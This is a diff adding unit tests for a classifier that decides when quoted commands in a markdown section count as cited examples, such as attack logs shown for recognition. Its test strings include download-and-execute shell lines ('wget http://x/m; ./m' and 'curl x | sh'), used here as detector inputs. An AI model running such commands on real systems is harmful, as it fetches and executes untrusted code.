@@ -229,3 +229,17 @@ describe('citedLines (what a skill refuses to write)', () => {
     expect(flags(fenced)[3]).toBe(0);
   });
 });
+
+describe('citedLines (recognition sections and quoted sessions)', () => {
+  it('should cite sections for recognising logs or with examples to recognise, not a section on a device', () => {
+    expect(flags('## How bots break in (for recognising logs)\n\n```\nwget http://x/m; ./m\n```')[3]).toBe(1);
+    expect(flags('## What infections look like (examples to recognise)\n\n```\ncurl x | sh\n```')[3]).toBe(1);
+    expect(flags('## Recognising the router\n\n```\ncurl x | sh\n```')[3]).toBe(0);
+  });
+
+  it('should cite a block quoted verbatim from a log, not one quoted in a README', () => {
+    expect(block('Typical session, quoted verbatim from a log (IPs replaced):')).toBe(1);
+    expect(block('then a script like this runs\n(quoted from a honeypot log, IPs replaced):')).toBe(1);
+    expect(block('Install it with the command quoted in the README:')).toBe(0);
+  });
+});
